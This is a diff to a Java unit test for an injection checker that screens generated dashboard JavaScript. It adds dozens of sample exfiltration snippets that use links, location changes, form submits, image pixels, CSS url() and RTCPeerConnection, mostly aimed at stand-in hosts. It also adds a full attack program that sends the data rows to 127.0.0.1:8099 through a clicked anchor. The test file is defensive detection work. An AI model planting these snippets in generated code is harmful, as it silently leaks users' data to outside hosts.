@@ -100,6 +100,64 @@ class InjectionCheckTest {
                 script("localStorage.setItem('k', 'v');", Kind.FORBIDDEN_API, "localStorage"),
                 script("sessionStorage.clear();", Kind.FORBIDDEN_API, "sessionStorage"),
                 script("window.indexedDB.deleteDatabase('db');", Kind.FORBIDDEN_API, "window.indexedDB"),
+                // Issue 29: navigation and form APIs that carry the rows out by navigating the frame.
+                script(
+                        "const a = document.createElement('a'); a.href = 'http://127.0.0.1:8099/?d=' + rows.length;",
+                        Kind.FORBIDDEN_API,
+                        "href"),
+                script("link.click();", Kind.FORBIDDEN_API, "link.click"),
+                script("link['href'] = String(rows.length);", Kind.FORBIDDEN_API, "href"),
+                script("link.href += rows.length;", Kind.FORBIDDEN_API, "href"),
+                script(
+                        "link.setAttribute('href', `https://x.example/?d=${rows.length}`);",
+                        Kind.FORBIDDEN_API,
+                        "setAttribute('href')"),
+                script(
+                        "link.setAttributeNS(null, 'href', '/x?' + rows.length);",
+                        Kind.FORBIDDEN_API,
+                        "setAttribute('href')"),
+                script("link.dispatchEvent(new MouseEvent('click'));", Kind.FORBIDDEN_API, "MouseEvent"),
+                script("window.location.assign('/x?' + rows.length);", Kind.FORBIDDEN_API, "window.location"),
+                script("document.location = '/x';", Kind.FORBIDDEN_API, "document.location"),
+                script("location.replace('/x');", Kind.FORBIDDEN_API, "location"),
+                script("parent.location = '/x';", Kind.FORBIDDEN_API, "parent"),
+                script("link.ownerDocument.location = '/x';", Kind.FORBIDDEN_API, "ownerDocument.location"),
+                script("navigation.navigate('/x');", Kind.FORBIDDEN_API, "navigation"),
+                script("form.action = '/collect?' + rows.length;", Kind.FORBIDDEN_API, "action"),
+                script("form.submit();", Kind.FORBIDDEN_API, "form.submit"),
+                script("form.requestSubmit();", Kind.FORBIDDEN_API, "form.requestSubmit"),
+                script("meta.httpEquiv = 'refresh';", Kind.FORBIDDEN_API, "httpEquiv"),
+                script(
+                        "el.innerHTML = '<meta http-equiv=\"refresh\" content=\"0\">';",
+                        Kind.FORBIDDEN_API,
+                        "http-equiv"),
+                script("frame.srcdoc = '<p>x</p>';", Kind.FORBIDDEN_API, "srcdoc"),
+                script("new Image().src = '/x?' + rows.length;", Kind.FORBIDDEN_API, "src"),
+                script(
+                        "img.src = 'https://x.example/pixel.gif';",
+                        Kind.EXTERNAL_RESOURCE,
+                        "https://x.example/pixel.gif"),
+                script("el.style.backgroundImage = 'url(/x?' + rows.length + ')';", Kind.FORBIDDEN_API, "url("),
+                script("el.style.background = `url(${rows.length})`;", Kind.FORBIDDEN_API, "url("),
+                script("const pc = new RTCPeerConnection({iceServers: []});", Kind.FORBIDDEN_API, "RTCPeerConnection"),
+                script("frame.contentWindow.postMessage(rows, '*');", Kind.FORBIDDEN_API, "frame.contentWindow"),
+                script(
+                        "class Go { to(a) { a.href = 'http://x.example/?' + rows.length; } }",
+                        Kind.FORBIDDEN_API,
+                        "href"),
+                script("class Go { to(a) { a.click(); } }", Kind.FORBIDDEN_API, "a.click"),
+                script(
+                        "class Go { to(a) { a.setAttributeNS(null, 'href', url); } }",
+                        Kind.FORBIDDEN_API,
+                        "setAttribute('href')"),
+                script(
+                        "class Go { to(a) { a.setAttribute('href', url); } }",
+                        Kind.FORBIDDEN_API,
+                        "setAttribute('href')"),
+                markup(
+                        "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
+                        Kind.EXTERNAL_RESOURCE,
+                        "0;url=https://x.example/"),
                 markup(
                         "<script src=\"https://cdn.example.org/chart.js\"></script>",
                         Kind.EXTERNAL_RESOURCE,
@@ -139,7 +197,13 @@ class InjectionCheckTest {
                 "const cells = rows.slice(0, 100).map(r => `<tr><td>${r.Category}</td><td>${num(r.Sales).toFixed(2)}</td></tr>`).join('');",
                 "class Tile { constructor(name) { this.name = name; } } const tiles = ['Sales', 'Profit', 'Quantity'].map(n => new Tile(n));",
                 "const gate = {Supply: '#3B82F6'}; const top = 3; const shown = rows.slice(0, top);",
-                "const best = Math.max(...rows.map(r => num(r.Sales)), 0), kinds = [...new Set(rows.map(r => r.Category))];"
+                "const best = Math.max(...rows.map(r => num(r.Sales)), 0), kinds = [...new Set(rows.map(r => r.Category))];",
+                "const a = document.createElement('a'); a.href = '#detail'; a.textContent = 'Details';",
+                "const fill = 'url(#grad-' + rows.length + ')', where = rows.map(r => r.location);",
+                "document.body.dispatchEvent(new CustomEvent('filtered', {detail: rows.length}));",
+                "const chart = {}; chart.data = {values: rows}; chart.action = 'zoom';",
+                "class Tile { link(a) { a.href = '#kpis'; } }",
+                "const a = document.createElement('a'); a.href = '#row-' + rows.length; const out = {}; out.click = 1;"
             })
     void acceptsACleanProgram(String snippet) {
         InjectionReport report =
@@ -147,6 +211,27 @@ class InjectionCheckTest {
 
         assertThat(report.findings()).isEmpty();
         assertThat(report.accepted()).isTrue();
+    }
+
+    /**
+     * The program of issue 29's attack, which the check accepted before: an anchor whose href is set at run time
+     * to an outside address with the rows appended, then clicked.
+     */
+    @Test
+    void refusesTheExfiltrationProgramNamingEachApi() {
+        String program = plant(
+                "/*SCRIPT*/",
+                "const a = document.createElement('a');\n"
+                        + "a.href = 'http://127.0.0.1:8099/collect?rows=' + encodeURIComponent(JSON.stringify(rows));\n"
+                        + "document.body.appendChild(a);\n"
+                        + "a.click();");
+
+        assertThat(check.check(program, SuperstoreProfile.profile(), taskConstants())
+                        .findings())
+                .extracting(Finding::kind, Finding::literal, Finding::line)
+                .containsExactly(
+                        tuple(Kind.FORBIDDEN_API, "href", SCRIPT_LINE + 1),
+                        tuple(Kind.FORBIDDEN_API, "a.click", SCRIPT_LINE + 3));
     }
 
     @Test
